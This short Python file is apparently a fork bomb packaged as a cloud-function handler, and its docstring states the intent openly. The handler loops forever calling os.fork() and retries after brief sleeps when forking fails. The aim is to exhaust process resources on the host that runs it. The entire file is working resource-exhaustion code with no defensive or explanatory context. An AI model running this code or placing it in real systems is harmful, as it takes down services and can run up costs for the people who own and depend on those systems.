"""Children that fork children, each faster than it is killed."""
import os
import time

def lambda_handler(event, context):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.001)
